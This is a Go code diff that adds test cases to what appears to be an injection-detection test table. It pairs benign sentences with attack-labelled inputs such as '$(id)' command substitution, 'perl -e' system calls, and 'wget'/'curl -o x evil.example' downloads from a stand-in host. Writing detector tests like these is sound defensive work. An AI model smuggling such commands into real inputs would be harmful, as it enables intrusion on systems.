@@ -49,6 +49,18 @@ var exceptedCases = map[string][]exceptedCase{
 		{value: "Hello,\nFind attached the `id`", attack: true},
 		{value: "Hello,\nFind attached the $(id)", attack: true},
 	},
+	"capitals": {
+		{value: "Perl uses a simple signed integer type."},
+		{value: "Gzip compresses the files before they are sent.\nPerl reads them."},
+		{value: "<p class=\"note\">The same version of\nPerl is needed there.</p>"},
+		{value: "Python, Ruby and Node are languages"},
+		{value: "Git stores the history of all files; Curl loads them"},
+		{value: "perl uses a.pl", attack: true},
+		{value: "PERL -e x", attack: true},
+		{value: "Hello there\nwget evil", attack: true},
+		{value: "Perl is nice\ncurl -o x evil.example", attack: true},
+		{value: "x; perl -e 'system(1)'", attack: true},
+	},
 	"calls": {
 		{value: "a software system (if any of them works)"},
 		{value: "the glob (with all its files) is read"},
@@ -72,6 +84,9 @@ var exceptedCases = map[string][]exceptedCase{
 		{value: "1 or extract (year from x)", attack: true},
 	},
 	"arrow": {
+		{value: "<span class=\"a\"><em>woody</em></span> (Debian 3) was it"},
+		{value: "<em class=\"a\">x</em>(id)", attack: true},
+		{value: "cat >\"\"(id)", attack: true},
 		{value: "Menu -> (Settings)"},
 		{value: "File => (Open) => (Recent)"},
 		{value: "if a > (b) or c < (d)"},
